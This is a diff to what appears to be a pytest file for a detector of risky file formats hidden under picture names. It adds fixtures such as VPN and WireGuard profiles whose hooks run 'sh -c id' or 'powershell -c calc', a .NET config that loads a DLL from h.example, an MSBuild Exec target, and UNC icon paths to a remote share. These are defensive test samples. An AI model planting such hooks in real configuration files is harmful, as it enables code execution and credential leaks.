@@ -143,6 +143,22 @@ FORMS = {
     "shortcut behind another section": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=http://h.example/\r\n",
     "terminal server": b"[WFClient]\r\nVersion=2\r\n",
     "data link": "[oledb]\r\nProvider=x".encode("utf-16"),
+    "terminal server behind another section": b"[Encoding]\r\nInputEncoding=UTF8\r\n\r\n[WFClient]\r\nVersion=2\r\n",
+    "remote desktop with a gateway": "workspace id:s:x\r\ngatewayhostname:s:h.example\r\ndrivestoredirect:s:*\r\n".encode("utf-16"),
+    "remarks in front of a shell file": b"; x\n# y\n[Shell]\nIconFile=\\\\h.example\\s\\a.ico\nCommand=2\n",
+    "remarks in front of a desktop entry": b"# x\n[Desktop Entry]\nType=Application\nExec=sh -c id\n",
+    "logon scripts": b"[Logon]\r\n0CmdLine=\\\\h.example\\s\\a.bat\r\n",
+    "shell archive": b"# This is a shell archive.  Save it in a file\n# unpack it by entering sh file\n",
+    "script host file behind remarks": b"<?job debug='true'?><package><job id='a'><comment>x</comment><script language='JScript'>y</script></job></package>",
+    "view of PowerShell": b"<Configuration><ViewDefinitions><View><ScriptBlock>x</ScriptBlock></View></ViewDefinitions></Configuration>",
+    "type of PowerShell": b"<?xml version='1.0'?><Types><Type><Members><ScriptProperty><Name>a</Name></ScriptProperty></Members></Type></Types>",
+    "cmdlets over objects": b"<?xml version='1.0'?><PowerShellMetadata xmlns='x'/>", "PowerShell console": b"<PSConsoleFile ConsoleSchemaVersion='1.0'/>",
+    "serialised script": b"<Objs><Obj><TN><T>System.Management.Automation.ScriptBlock</T></TN><SBK>calc</SBK></Obj></Objs>",
+    "configuration with a domain manager": b"<configuration><runtime><appDomainManagerType value='A'/></runtime></configuration>",
+    "configuration with code from the web": b"<configuration><codeBase version='1.0' href='https://h.example/x.dll'/></configuration>",
+    "build file that runs a command": b"<Project><Target Name='x'><Exec Command='calc'/></Target></Project>",
+    "stylesheet with code of another prefix": b"<s:stylesheet xmlns:s='http://www.w3.org/1999/XSL/Transform'><u:script language='JScript'/></s:stylesheet>",
+    "VPN profile": b"client\ndev tun\nscript-security 2\nup \"/bin/sh -c id\"\n", "tunnel": b"[Interface]\nAddress = 10.0.0.2/32\nPostUp = powershell -c calc\n",
     "folder setting": b"[.ShellClassInfo]\r\nIconResource=\\\\h.example\\s\\i.ico,0\r\n",
 }
 
@@ -156,6 +172,11 @@ def test_forms_under_the_name_of_a_picture(name: str) -> None:
 
 @pytest.mark.parametrize("text", [
     b"Dear all,\r\nplease call me about the import of 50 % more parts, from os experts.\r\n", b"import duty: 5 %\r\nfrom our side\r\n",
+    b"client\nremote h.example\nscript-security 2\nup /etc/openvpn/update-resolv-conf\ndown /etc/openvpn/update-resolv-conf\n",
+    b"[Interface]\nAddress = 10.0.0.1/24\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\n",
+    b"<?xml version='1.0'?><configuration><bindingRedirect oldVersion='0.0' newVersion='1.0'/></configuration>",
+    b"<Configuration><Setting>a</Setting></Configuration>",
+    b"<s:stylesheet xmlns:s='http://www.w3.org/1999/XSL/Transform'><s:template match='/'/></s:stylesheet>", b"; list of names\n[Shell names]\nA=1\n",
     b"name,set,rate\r\na,b,5%\r\n", b"<plist><dict><key>Version</key></dict></plist>", b"[Settings]\r\nURL=http://h.example/\r\n",
 ])
 def test_ordinary_words_are_no_code(text: bytes) -> None:
